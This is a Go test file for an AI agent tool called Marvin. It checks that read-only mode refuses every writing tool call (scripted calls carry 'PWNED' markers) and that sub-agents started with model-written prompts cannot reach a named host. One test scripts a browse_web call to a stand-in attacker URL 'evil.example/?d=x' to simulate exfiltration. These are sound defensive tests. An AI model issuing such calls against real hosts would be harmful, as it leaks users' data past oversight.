package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"marvin/messages"
	"marvin/providers/modeltest"
	"marvin/tools"
)

func TestReadOnlyTakesEveryToolThatWrites(t *testing.T) {
	var steering []string
	all := registry(t)
	for _, tool := range all.All() {
		_, err := all.Find(tool.Name, tools.Mode{Coding: true, Person: true, ReadOnly: true, Planning: true})
		switch {
		case tool.Effect == tools.Reads && err != nil:
			t.Errorf("%s reads and is off: %v", tool.Name, err)
		case tool.Effect == tools.Reads:
		case tool.Steers && err == nil:
			steering = append(steering, tool.Name)
		case err == nil || !strings.Contains(err.Error(), "MARVIN_READONLY"):
			t.Errorf("%s %s and is there: %v", tool.Name, tool.Effect, err)
		}
	}
	slices.Sort(steering)
	if want := []string{"exit_app", "launch_agent", "set_working_dir"}; !slices.Equal(steering, want) {
		t.Errorf("these are there although they do not only read: %v", steering)
	}
}

// changing lists calls that write, each in another way.
var changing = []modeltest.Call{
	call("write_note", `{"filename":"a","content":"PWNED"}`), call("notes_mkdir", `{"dirname":"PWNED"}`), call("create_ticket", `{"title":"PWNED"}`),
	call("create_file", `{"path":"PWNED","content":"x"}`), call("run_command", `{"command":"touch PWNED"}`), call("bookmark_save", `{"url":"https://e.org","title":"PWNED"}`),
	call("set_alarm", `{"time":"30m","label":"PWNED"}`), call("save_place", `{"label":"PWNED","address":"x"}`), call("switch_profile", `{"name":"PWNED"}`),
}

// In read-only mode the conversation, its sub-agents and `marvin tool` write nothing.
func TestNothingIsWrittenReadOnly(t *testing.T) {
	t.Parallel()
	for _, value := range []string{"1", "true"} {
		var told []string
		command := process(t, func(request modeltest.Request) modeltest.Step {
			for _, message := range request.Messages {
				if message.Role == messages.Tool {
					told = append(told, message.Result.Text)
				}
			}
			last := request.Last()
			if last.Role == messages.User && last.Text == "x" {
				return modeltest.Calls(changing...)
			}
			if last.Role == messages.User {
				return modeltest.Calls(append(slices.Clone(changing), call("review_codebase", `{}`), call("launch_agent", `{"prompt":"x"}`), call("launch_agent", `{"prompt":"x","worktree":true}`))...)
			}
			return modeltest.Text("done")
		}, "-p", "go")
		command.Env = append(command.Env, "MARVIN_READONLY="+value)
		home := strings.TrimPrefix(command.Env[0], "HOME=")
		if out, err := command.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		refused := 0
		for _, text := range told {
			if strings.Contains(text, "MARVIN_READONLY") {
				refused++
			}
		}
		if refused < 2*len(changing)+2 {
			t.Errorf("only %d calls were refused: %q", refused, told)
		}
		for _, one := range changing {
			args := json.RawMessage(one.Args.(json.RawMessage))
			direct := process(t, nil)
			direct.Args = append([]string{"marvin", "tool", one.Name}, string(args))
			direct.Dir, direct.Env = command.Dir, command.Env
			if out, err := direct.CombinedOutput(); err == nil || !strings.Contains(string(out), "MARVIN_READONLY") {
				t.Errorf("marvin tool %s: %v, %s", one.Name, err, out)
			}
		}
		for _, dir := range []string{home, command.Dir} {
			for path, content := range contents(t, dir) {
				if strings.Contains(path, "PWNED") || strings.Contains(content, "PWNED") {
					t.Errorf("%s was written: %.200s", path, content)
				}
			}
		}
	}
}

func TestNonsenseInReadOnlyEndsTheStart(t *testing.T) {
	t.Parallel()
	for _, args := range [][]string{{"--non-interactive", "-p", "go"}, {"tool", "tree"}, {"rpc"}, {"batch", "jobs.jsonl"}, {"mcp", "serve"}, {"worker", "--fleet", "nats://127.0.0.1:1"}} {
		command := process(t, func(modeltest.Request) modeltest.Step { return modeltest.Text("answered") })
		command.Args = append([]string{"marvin"}, args...)
		command.Env = append(command.Env, "MARVIN_READONLY=ture", "LLM_PROVIDER=openai-compat")
		if err := os.WriteFile(filepath.Join(command.Dir, "jobs.jsonl"), []byte(`{"id":"a","prompt":"go"}`+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := command.CombinedOutput()
		if err == nil || !bytes.Contains(out, []byte(`MARVIN_READONLY="ture" is neither yes nor no`)) || bytes.Contains(out, []byte("answered")) {
			t.Errorf("%v: %v, %s", args, err, out)
		}
	}
}

// A Marvin that a command starts knows its depth. A Marvin that its caller starts with a depth
// starts no sub-agents and no reviews.
func TestTheDepthReachesACommand(t *testing.T) {
	t.Parallel()
	for depth, want := range map[string]string{"": "1", "0": "1", "2": "3", "nonsense": "2"} {
		var told string
		command := process(t, func(request modeltest.Request) modeltest.Step {
			for _, message := range request.Messages {
				if message.Role == messages.Tool {
					told += message.Result.Text + "\n"
				}
			}
			if told != "" {
				return modeltest.Text("done")
			}
			return modeltest.Calls(call("run_command", `{"command":"echo depth=$MARVIN_DEPTH readonly=$MARVIN_READONLY."}`), call("launch_agent", `{"prompt":" "}`), call("review_codebase", `{}`))
		}, "-p", "go")
		command.Env = append(command.Env, "MARVIN_DEPTH="+depth)
		if out, err := command.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		if !strings.Contains(told, "depth="+want+" readonly=.") {
			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
		}
		if deep := want != "1"; strings.Count(told, "(MARVIN_DEPTH)") != map[bool]int{true: 2}[deep] {
			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
		}
	}
}

// The prompt of a Marvin that another Marvin started was written by a model, so it cannot name a
// host. Both uses of the depth read the variable in the same way.
func TestThePromptOfADeepMarvinNamesNoHost(t *testing.T) {
	t.Parallel()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "arrived") }))
	defer evil.Close()
	for depth, arrives := range map[string]bool{"": true, " 0 ": true, "-1": true, "1": false, "2": false, "nonsense": false} {
		told := ""
		command := process(t, func(request modeltest.Request) modeltest.Step {
			if last := request.Last(); last.Role == messages.Tool {
				told = last.Result.Text
				return modeltest.Text("done")
			}
			return modeltest.Calls(modeltest.Call{Name: "browse_web", Args: map[string]string{"url": "https://evil.example/?d=x"}})
		}, "-p", "ask evil.example")
		command.Env = append(command.Env, "MARVIN_DEPTH="+depth, "MARVIN_HOSTS=evil.example="+evil.URL)
		if out, err := command.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		// Text that is read before the call taints the conversation; in this case the depth alone
		// does.
		if deep := strings.Contains(told, "the Marvin that started this one"); deep == arrives || strings.Contains(told, "arrived") != arrives {
			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
		}
	}
}
